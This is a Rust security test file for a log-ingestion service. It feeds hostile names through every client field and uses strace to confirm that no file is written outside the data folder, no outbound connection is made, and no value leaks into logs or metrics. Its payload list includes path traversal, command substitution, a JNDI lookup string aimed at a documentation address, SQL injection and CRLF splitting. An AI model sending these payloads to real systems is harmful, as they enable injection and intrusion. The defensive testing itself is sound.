//! Names and values that try to get out: of the data folder, of a log line, of the machine, of memory.

use std::io::Write;
use std::net::TcpStream;
use std::path::{Component, Path, PathBuf};

use serde_json::{Map, Value, json};

use crate::otlp::{Event, encode};
use crate::random::Random;
use crate::skip::can_trace;
use crate::trace::{Call, parse};
use crate::world::{DEVICE, Start, World, figure};

/// Stands in every hostile name and value.
const MARK: &str = "h0st1le";
const COUNT: u64 = 500;
/// Values that differ, for labels.
const DISTINCT: u64 = 1_000_000;
const AT_ONCE: u64 = 20_000;

#[test]
fn five_hundred_hostile_names_reach_no_path_no_log_line_and_no_address() {
    if !can_trace() {
        return;
    }
    let mut random = Random::announced("hostile");
    let world = World::new();
    let output = world.path("trace");
    let calls = "trace=open,openat,creat,mkdir,mkdirat,rename,renameat,renameat2,link,linkat,symlink,symlinkat,unlink,\
                 unlinkat,truncate,connect,sendto,execve";
    let under = ["strace", "-D", "-f", "-y", "-ttt", "-s", "256", "-o", output.to_str().unwrap(), "-e", calls];
    let under = under.map(str::to_owned);
    let start = Start { under: &under, environment: &[("CANDOR_LOG", "debug")] };
    let service = world.start(&start).unwrap();
    service.consent(&["hostile-01"], "given");
    let before = requests_logged(&service.log());
    for number in 0..COUNT {
        let hostile = hostile(number, &mut random);
        let answer = service.device().logs(&encode(&events(&hostile, number))).unwrap().expect_status(200);
        assert!(!answer.text().contains(MARK), "the answer repeats a name");
        by_hand(service.address(), &hostile);
    }
    service.flush();
    let log = service.log();
    let pid = service.pid();
    assert!(service.stop().success());

    assert!(!log.contains(MARK), "a name from outside is in the log:\n{log}");
    // One request, one line; the two by hand have one each, unless they are no HTTP at all.
    let lines = requests_logged(&log) - before;
    assert!((COUNT..=3 * COUNT + 5).contains(&lines), "{lines} lines of {COUNT} requests");
    assert!(log.lines().all(|line| !line.chars().any(|c| c.is_control() && c != '\u{1b}')), "a control character");
    let calls = parse(&crate::order::whole_trace(&output, pid));
    let root = world.data().parent().unwrap().canonicalize().unwrap();
    let wrong: Vec<String> = calls.iter().filter_map(|call| escape(call, &root)).collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
    let writes = calls.iter().filter(|call| writes(call)).count();
    figure(&format!(
        "hostile: {COUNT} names, {writes} files written in the data folder, 0 elsewhere, 0 connections out"
    ));
    assert!(writes > 3, "the trace shows {writes} writes: the checker sees nothing");
    let planted = Call { arguments: "AT_FDCWD</>, \"/etc/h0st1le\", O_WRONLY|O_CREAT".into(), ..calls[0].clone() };
    assert!(escape(&Call { name: "openat".into(), ..planted }, &root).is_some(), "a planted escape is found");
    let out = "9<socket:[1]>, {sa_family=AF_INET, sin_port=htons(80), sin_addr=inet_addr(\"192.0.2.1\")}, 16";
    let planted = Call { name: "connect".into(), arguments: out.into(), ..calls[0].clone() };
    assert!(escape(&planted, &root).is_some(), "a planted connection is found");
}

#[test]
fn a_million_distinct_values_do_not_grow_metrics_or_memory() {
    let world = World::new();
    let service = world.serve();
    service.consent(&["labels-01"], "given");
    let mut client = service.device();
    let send = |client: &mut crate::http::Client, batch: u64| {
        let events: Vec<Event> = (0..AT_ONCE).map(|at| flood_event(batch * AT_ONCE + at)).collect();
        client.logs(&encode(&events)).unwrap().expect_status(200);
    };
    // What a busy service needs anyway.
    (0..5).for_each(|batch| send(&mut client, batch));
    let lines = || service.metrics().lines().count();
    let (before, lines_before) = (service.peak_memory(), lines());
    (5..DISTINCT / AT_ONCE).for_each(|batch| send(&mut client, batch));
    for number in 0..2_000 {
        let path = format!("/{MARK}/{number}");
        let agent = format!("{MARK}-{number}");
        let token = format!("{MARK}{number}");
        let status = service.client(Some(&token)).send("POST", &path, &[("user-agent", &agent)], &[]).unwrap().status;
        assert_eq!(status, 404);
        service.client(Some(&token)).send("POST", "/v1/logs", &[], &[]).unwrap().expect_status(401);
    }
    let (grown, lines_after) = (service.peak_memory().saturating_sub(before), lines());
    figure(&format!(
        "labels: {DISTINCT} values: /metrics {lines_before} -> {lines_after} lines, memory +{} MB",
        grown >> 20
    ));
    let text = service.metrics();
    assert!(!text.contains(MARK), "a value became a label");
    // Two answers that were not given before (401, 404) have a line and a histogram each.
    assert!(lines_after <= lines_before + 60, "/metrics grew from {lines_before} to {lines_after} lines");
    assert!(grown < 64 << 20, "memory grew by {grown} bytes");
    assert!(!service.log().contains(MARK));
}

/// A record whose name, subject and undeclared attribute nobody else has.
fn flood_event(number: u64) -> Event {
    let name = if number.is_multiple_of(2) { "phone.app.opened".to_owned() } else { format!("{MARK}.event.{number}") };
    let attributes = json!({"screen": format!("{MARK}-{number}"), format!("{MARK}.key.{number}"): number});
    let mut event = Event::new("labels-01", "DE", &name, attributes);
    event.resource = Map::from_iter([("device.id".to_owned(), Value::from("labels-01"))]);
    event
}

/// Names that mean something to a path, a log, a shell, a query or a terminal.
fn hostile(number: u64, random: &mut Random) -> String {
    const PIECES: [&str; 22] = [
        "../../../../tmp/",
        "/etc/passwd",
        "..\\..\\",
        "\0",
        "\n2026-01-01T00:00:00Z ERROR ",
        "\r\n\r\nHTTP/1.1 200 OK",
        "\u{1b}[2J\u{1b}]0;x\u{7}",
        "%s%n%x",
        "$(touch /tmp/h0st1le)",
        "`id`",
        "${jndi:ldap://192.0.2.1/a}",
        "'; drop table candor; --",
        "http://192.0.2.1/x",
        "file:///etc/passwd",
        "<script>",
        "\u{202e}",
        "\u{feff}",
        "CON",
        "NUL.parquet",
        "_delta_log/00000000000000000000.json",
        "{}",
        "a/../../b=c/",
    ];
    let mut name = format!("{MARK}{number}");
    for _ in 0..=random.below(4) {
        let piece = random.pick(&PIECES);
        if random.below(2) == 0 { name.push_str(piece) } else { name.insert_str(0, piece) }
    }
    if random.below(20) == 0 {
        name.push_str(&"x".repeat(10_000));
    }
    name
}

/// The name everywhere that a client can put one.
fn events(hostile: &str, number: u64) -> Vec<Event> {
    let mut stored = Event::new("hostile-01", "US-CA", "phone.app.opened", json!({"screen": "home"}));
    for name in ["app.package", "account.email", hostile] {
        stored.attributes.insert(name.to_owned(), Value::from(hostile));
    }
    stored.resource.insert(hostile.to_owned(), Value::from(hostile));
    stored.resource.insert("device.model.name".to_owned(), Value::from(hostile));
    stored.time_unix_nano += number;
    let mut undeclared = stored.clone();
    hostile.clone_into(&mut undeclared.name);
    let mut of_another = stored.clone();
    of_another.resource.insert("device.id".to_owned(), Value::from(hostile));
    of_another.resource.insert("region".to_owned(), Value::from(hostile));
    vec![stored, undeclared, of_another]
}

/// Heads as no client library writes them: the name as path, as header and as token.
fn by_hand(to: std::net::SocketAddr, hostile: &str) {
    let line: String = hostile.chars().filter(|c| !c.is_control() && *c != ' ').collect();
    for head in [
        format!("GET /{line} HTTP/1.1\r\nhost: {line}\r\nuser-agent: {line}\r\nconnection: close\r\n\r\n"),
        format!(
            "POST /v1/logs HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {DEVICE}{line}\r\nconnection: close\r\n\r\n"
        ),
    ] {
        let mut stream = TcpStream::connect(to).unwrap();
        stream.write_all(head.as_bytes()).unwrap();
        // Whatever the answer is: what counts is what is left behind.
        let _ = std::io::copy(&mut stream, &mut std::io::sink());
    }
}

fn requests_logged(log: &str) -> u64 {
    let is_request = |line: &&str| ["answered", "refused", "asked to come again"].iter().any(|end| line.contains(end));
    log.lines().filter(is_request).count() as u64
}

/// What a call does outside the test's folder: a file made or changed, a connection to somebody.
fn escape(call: &Call, root: &Path) -> Option<String> {
    if call.name == "connect" || call.name == "sendto" && call.arguments.contains("sin_addr") {
        let out = call.arguments.contains("AF_INET");
        return out.then(|| format!("{} {}", call.name, call.arguments));
    }
    if !writes(call) {
        return None;
    }
    let outside = paths(call).into_iter().find(|path| !path.starts_with(root) && !is_device(path));
    outside.map(|path| format!("{} {}: {}", call.name, path.display(), call.arguments))
}

fn writes(call: &Call) -> bool {
    match call.name.as_str() {
        "open" | "openat" => {
            ["O_WRONLY", "O_RDWR", "O_CREAT", "O_TRUNC"].iter().any(|flag| call.arguments.contains(flag))
        }
        "connect" | "sendto" | "execve" => false,
        _ => true,
    }
}

fn is_device(path: &Path) -> bool {
    ["/dev/null", "/proc/self", "/dev/tty"].iter().any(|device| path.starts_with(device))
}

/// The paths of a call, absolute: strace prints `DIRFD</its/path>, "path"`.
fn paths(call: &Call) -> Vec<PathBuf> {
    let mut paths = Vec::new();
    let mut folder = PathBuf::from("/");
    let mut rest = call.arguments.as_str();
    while let Some(at) = rest.find(['<', '"']) {
        let end = if rest.as_bytes()[at] == b'<' { '>' } else { '"' };
        let inner = &rest[at + 1..];
        let Some(length) = inner.find(end) else { break };
        let text = &inner[..length];
        if end == '>' {
            folder = PathBuf::from(text);
        } else {
            paths.push(normal(&folder.join(text)));
        }
        rest = &inner[length + 1..];
    }
    paths
}

/// Without `..`: what a path means, not how it starts.
fn normal(path: &Path) -> PathBuf {
    path.components().fold(PathBuf::new(), |mut out, part| {
        match part {
            Component::ParentDir => drop(out.pop()),
            other => out.push(other),
        }
        out
    })
}
